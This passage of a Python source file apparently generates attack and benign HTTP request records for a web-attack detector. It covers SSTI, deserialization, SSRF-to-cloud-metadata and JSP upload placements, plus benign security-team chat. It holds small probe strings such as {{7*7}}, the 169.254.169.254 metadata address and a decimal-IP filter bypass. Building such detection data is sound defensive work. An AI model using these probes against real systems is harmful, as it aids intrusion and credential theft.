    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]
# raw serialization bytes: percent-encoded as latin-1 where they go into a URL-encoded carrier
LATIN1_SUBS = {"java-serialization", "deserialization-gadgets"}

# ----------------------------------------------------------------------------------------------------------------
# Placements
URL_NAMES = ["webhook_url", "import_url", "avatar_url", "callback", "redirect_uri", "feed_url", "url"]
URL_SUBS = {"ssrf-cloud-metadata", "ssrf-internal-ip", "php-data-scheme"}


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    real_cycle = ["query", "json", "form", "header:User-Agent", "cookie", "header:Referer", "multipart-field", "xml",
                  "header:X-Api-Version", "path", "param-name"]
    names = ["q", "name", "bio", "redirect_uri", "callback", "display_name", "message", "search", "company",
             "template"]
    boundary = "----WebKitFormBoundaryH1pocQ7xZ2mN4kLp"
    upload = JSP_BODY
    file_type = "image/png"
    documents = True   # XStream, XMLDecoder, SOAP and Rails XML params are the document
    unique = True

    def name(self, category: str, sub: str, k: int) -> str:
        names = URL_NAMES if sub in URL_SUBS else self.names
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        return sub in LATIN1_SUBS and any(ord(ch) > 0x7E or ord(ch) < 0x20 for ch in payload)

    # the payload is itself `name=value` (query-string pollution, parameter binding) and goes unquoted
    def _p_query_raw(self, p: Put) -> Record:
        return _get("/api/users?" + self._raw(p))

    def _p_form_raw(self, p: Put) -> Record:
        return self._p_form(p._replace(raw=True))

    def _p_rs_query_raw(self, p: Put) -> Record:
        return request("GET", p.path + "?" + self._raw(p))

    def _p_json(self, p: Put) -> Record:
        return _json("/api/users", {"email": "hunter@wearehackerone.com", p.name: p.v})

    def _p_cookie(self, p: Put) -> Record:
        return request("GET", self.list_uri, Cookie="session=8f2c1d; " + self._cookie_pair(p))

    def _p_rs_raw_body(self, p: Put) -> Record:
        return request("POST", p.path, self.enc(p.v, p.latin, self.kv_safe) if p.latin or "=" in p.v else p.v, FORM)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same products, keywords and syntax typed innocently (support chat about bug bounties and security
# reports, release notes, searches, links to advisories and docs, profiles, uploads, ordinary headers)
CHAT = [
    # bug bounty program and triage chat
    "new HackerOne report on the webhook feature, SSRF to the metadata service, triaging now",
    "the bounty for the SSRF report is approved, $3,000 since it reached IAM credentials on staging",
    "reporter says the avatar import fetched http://169.254.169.254 but we block that range since Tuesday",
    "closing the Bugcrowd submission as informative, the 127.0.0.1 redirect only hits our own health check",
    "duplicate of #2481, same open redirect on redirect_uri, thanking the researcher anyway",
    "please ask the researcher for a video PoC, the steps in the report don't reproduce on prod",
    "we pay for impact, not for scanner output; the log4j report had no callback in it",
    "log4j 2.17.1 everywhere now, the jndi lookups are disabled by default since 2.16",
    "did anyone check if the search service still bundles log4j-core? the SBOM says 2.14",
    "Spring4Shell doesn't affect us, we run Spring Boot as a jar, not a WAR on Tomcat",
    "we bumped spring-beans to 5.3.18 anyway, no reason to argue with the scanner",
    "the Confluence OGNL advisory is out, our instance is patched to 7.18.1",
    "Struts is gone since the 2019 migration, only the legacy billing app had it",
    "the Jackson default typing is off; enableDefaultTyping was removed from ObjectMapperConfig",
    "fastjson autoType stays disabled, safeMode=true in the config",
    "ysoserial output in a report means nothing unless they show it deserialized",
    "the Java serialization filter (jdk.serialFilter) is set in JAVA_OPTS now",
    "we replaced ObjectInputStream with JSON for the session cache",
    "the XStream allowlist only permits our DTO classes after the upgrade to 1.4.20",
    "the JSP upload test: uploads are stored in S3 and never served by Tomcat, so .jsp names don't matter",
    # Node.js / prototype pollution
    "prototype pollution in the merge helper: we switched to structuredClone and Object.create(null)",
    "lodash 4.17.21 fixes the merge pollution; npm audit is clean now",
    "the __proto__ key is stripped by our JSON schema validator, additionalProperties is false",
    "child_process.execFile with an args array, never exec with a string, per the review checklist",
    "the report about eval in the calculator widget: we replaced eval with mathjs evaluate",
    "node 20 --experimental-permission flag could have blocked the fs read in that report",
    "ReDoS in the email validator regex, the report had a 50k-char input that pinned the CPU",
    "catastrophic backtracking fix: the username regex is now anchored and linear",
    "process.env leak in the error page was fixed by turning off the debug stack traces",
    # SSRF and internal
    "IMDSv2 is enforced on all EC2 instances, hop limit 1, so the token PUT fails from containers",
    "GCP requires the Metadata-Flavor: Google header, the PDF renderer can't set it",
    "our URL fetcher now resolves DNS first and refuses private ranges: 10/8, 172.16/12, 192.168/16",
    "researcher tried decimal IPs like 2130706433, the new validator normalizes them before the check",
    "localhost:8080 is the admin port inside the pod, never exposed",
    "the gopher scheme is not in the allowlist, only http and https",
    "file:// URLs in the import dialog now show an error message instead of a stack trace",
    # Ruby / Perl / PHP
    "YAML.safe_load everywhere in the Rails app, Psych 4 made it the default",
    "the old Perl CGI with the two-argument open is finally decommissioned",
    "Kernel#open with user input was replaced by URI.open with a scheme check",
    "the data:// wrapper report was on the WordPress plugin, allow_url_include is off anyway",
    # SSTI
    "SSTI report: the name field rendered {{7*7}} as 49 in the welcome e-mail",
    "the mail templates use Handlebars, {{first_name}} and {{company}} are the only variables",
    "we render user text with Jinja2 sandboxed environment now, autoescape on",
    "the Twig sandbox policy lists allowed tags and filters, no map or filter with callbacks",
    "FreeMarker new_builtin_class_resolver is set to SAFER_RESOLVER",
    "Velocity templates for the invoice are checked into the repo, users can only pick one",
    "the Thymeleaf view name comes from a fixed map, not from the lang parameter any more",
    "Liquid templates in the help center: {{ page.title }} and {% include 'footer' %} only",
    "ERB in the mailer: <%= @user.first_name %>, nothing user-supplied gets compiled",
    "EJS upgraded to 3.1.10 after the outputFunctionName advisory",
    "Go templates for the status page, {{ .Name }} and {{ .Status }}, html/template escapes them",
    "the Razor email views are precompiled, the report about @(6*7) was on the marketing site",
    "Smarty security policy enabled, {php} tags are off since Smarty 3",
    "Pug templates in the admin are static files; no user input is compiled",
    # ordinary
    "standup moved to 10:30, bring the security review notes",
    "the pentest report PDF is in the shared drive under 2024/Q2",
    "who owns the bug bounty budget this quarter?",
    "thanks for fixing the redirect bug so quickly!",
    "release notes: fixed SSRF in webhook validation, hardened template rendering, upgraded log4j",
]
SEARCHES = [
    "ssrf report", "log4j", "log4shell", "jndi", "spring4shell", "prototype pollution", "__proto__",
    "template injection", "SSTI", "Jinja2", "Twig", "FreeMarker", "Velocity", "Thymeleaf", "Handlebars",
    "ERB", "Smarty", "Nunjucks", "EJS", "Pebble", "Liquid", "Razor", "Mako", "Tornado",
    "ProcessBuilder", "Runtime.getRuntime", "ClassLoader", "ObjectInputStream", "ysoserial", "XStream",
    "fastjson", "Jackson", "OGNL", "SpEL", "169.254.169.254", "metadata service", "localhost",
    "child_process", "YAML.load", "data:// wrapper", "hackerone", "bugcrowd", "bug bounty payout",
]
PROSE = [
    "Researcher reported SSRF via the webhook URL field reaching the AWS metadata endpoint; fixed by blocking "
    "link-local and private ranges after DNS resolution.",
    "Closed as duplicate: the Log4j JNDI lookup report matches the one received on 2021-12-11.",
    "Bounty awarded for prototype pollution in the settings merge; fix uses a null-prototype object.",
    "The SSTI in the welcome e-mail template was caused by compiling the display name; names are now data only.",
    "Mitigation for Spring4Shell: upgraded to Spring Framework 5.3.18 and Tomcat 9.0.62.",
    "Deserialization: ObjectInputStream replaced by Jackson without default typing in the session service.",
    "The customer asked whether the Confluence OGNL injection affects our plugin; it does not.",
    "Ruby on Rails app: YAML.load replaced by YAML.safe_load with permitted classes.",
    "Perl CGI retired; the open() call with a user file name no longer exists.",
    "File upload now checks extensions against an allowlist (png, jpg, pdf); .jsp and .jspx are rejected.",
    "The researcher used a Burp Collaborator host to confirm the blind SSRF.",
    "Triage note: the payload ${7*7} came back as ${7*7}, so no template evaluation happened.",
    "Handlebars templates are precompiled at build time; user input only fills {{variables}}.",
    "The Java class names in the stack trace (java.lang.ProcessBuilder, java.lang.Runtime) come from the PDF tool.",
    "The metadata service at 169.254.169.254 is reachable only with an IMDSv2 session token.",
    "Hunter's report included the ysoserial CommonsCollections5 chain; commons-collections is not on our classpath.",
    "Fastjson 1.2.83 with safeMode; the @type key is ignored.",
    "ReDoS fix in the tag parser: replaced the nested quantifier with a possessive match.",
    "Node.js eval removed from the formula feature; formulas are parsed by our own grammar.",
    "Data URLs (data:image/png;base64,...) are accepted for avatars only after image decoding.",
    "Go html/template escapes values in {{ .Name }}; text/template is not used for user content.",
    "Twig's sandbox extension is enabled for tenant templates.",
    "The Velocity engine has the SecureUberspector configured.",
    "Thymeleaf fragment selection no longer uses request parameters.",
    "Kubernetes secrets are not readable from the app's service account.",
    "Redis listens on localhost only and requires a password.",
    "The import feature accepts https URLs from allowlisted hosts (github.com, gitlab.com).",
    "Please update the security.txt with the new bug bounty policy link.",
    "Disclosure approved for the report on the open redirect in the login flow.",
    "Severity lowered from critical to medium: the SSRF was blind and limited to port 443.",
]
URLS = [
    "https://hackerone.com/reports/341876",
    "https://www.bugcrowd.com/resources/guides/",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://spring.io/security/cve-2022-22965",
    "https://confluence.atlassian.com/doc/confluence-security-advisory-2022-06-02-1130377146.html",
    "https://cwiki.apache.org/confluence/display/WW/S2-045",
    "https://portswigger.net/web-security/server-side-template-injection",
    "https://portswigger.net/web-security/ssrf",
    "https://portswigger.net/web-security/prototype-pollution",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://jinja.palletsprojects.com/en/3.1.x/sandbox/",
    "https://twig.symfony.com/doc/3.x/api.html#sandbox-extension",
    "https://freemarker.apache.org/docs/app_faq.html",
    "https://handlebarsjs.com/guide/",
    "https://shopify.github.io/liquid/",
    "https://github.com/frohoff/ysoserial",
    "https://x-stream.github.io/security.html",
    "https://nodejs.org/api/vm.html",
    "https://ruby-doc.org/stdlib-3.1.0/libdoc/psych/rdoc/Psych.html",
    "https://owasp.org/www-community/vulnerabilities/Deserialization_of_untrusted_data",
]
PROFILES = [
    ("Ann Lee", "Security engineer, bug bounty triage, Jinja2 and Twig sandbox fan"),
    ("Marco Rossi", "Java platform team: Spring Boot, Jackson, log4j upgrades"),
    ("Priya Nair", "Node.js backend, Express and Handlebars templates"),
    ("Tom O'Brien", "Rails and ERB views, YAML config, Sidekiq"),
    ("Léa Martin", "Application security, SSRF and metadata service hardening"),
    ("Kenji Watanabe", "Top 100 on HackerOne, mostly SSRF and SSTI reports"),
    ("Sara Cohen", "Perl maintainer of the legacy billing CGI (retired 2023)"),
    ("Diego Fernández", "Infra: Kubernetes, IMDSv2, VPC endpoints"),
    ("Olga Petrova", "QA, writes the Liquid templates for the help center"),
    ("Ahmed Hassan", "Full stack: Go templates, Pug, Nunjucks"),
    ("Emma Schmidt", "Bugcrowd program manager"),
    ("Chen Wei", "Security researcher, deserialization and Java gadget chains"),
    ("Grace Kim", "Frontend, prototype chain nerd, writes about JavaScript objects"),
    ("Lucas Silva", "PHP and Smarty themes for the shop"),
    ("Noah Williams", "Thymeleaf and FreeMarker email templates"),
    ("Fatima Zahra", "Velocity templates in Confluence and Jira"),
    ("Jonas Berg", "Struts to Spring migration lead, 2019"),
    ("Amelia Brown", "Support, handles security@ inbox and researcher replies"),
    ("Ravi Kumar", "Pebble and Razor templates in the reporting service"),
    ("Isabel Costa", "Data import feature owner (URL import, CSV, webhooks)"),
]
UPLOAD_NAMES = [
    "hackerone-report-2481.pdf", "pentest-2024-q2.pdf", "log4j-remediation-plan.docx", "ssrf-poc-video.mp4",
    "spring4shell-scan.csv", "avatar.png", "profile photo.jpg", "invoice_2024-05.pdf", "template-preview.png",
    "security-review notes.txt", "bug-bounty-policy-v3.md", "jinja2-sandbox.png", "JSP migration plan.xlsx",
    "metadata-service-diagram.svg", "resume_ann_lee.pdf",
]
BENIGN_HEADERS = [
    ("Referer", "https://hackerone.com/reports/341876"),
    ("Referer", "https://portswigger.net/web-security/server-side-template-injection"),
    ("Referer", "https://logging.apache.org/log4j/2.x/security.html"),
    ("Referer", "https://www.google.com/search?q=spring4shell+cve-2022-22965"),
    ("Referer", "https://app.example.com/settings/webhooks?tab=delivery"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "Java/17.0.10"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/11.0.22)"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("User-Agent", "Ruby"),
    ("User-Agent", "libwww-perl/6.72"),
    ("User-Agent", "okhttp/4.12.0"),
    ("X-Api-Version", "2024-06-01"),
    ("Accept-Language", "en-GB,en;q=0.9,de;q=0.7"),
    ("Cookie", "session=8f2c1d; theme=dark; last_search=log4j%20upgrade"),
    ("Cookie", "session=8f2c1d; tz=Europe%2FBerlin; tpl=handlebars"),
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from SET.searches(SEARCHES, NAME, n)
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    n = yield from numbered((_json("/api/users", {"name": who, "bio": bio, "email": "user@example.org"})
                             for who, bio in PROFILES), f"{NAME}-profile", n, "json")
    n = yield from SET.uploads(UPLOAD_NAMES, NAME, n)
    yield from SET.headers(BENIGN_HEADERS, NAME, n)


if __name__ == "__main__":
    print_records(attacks(), benign())
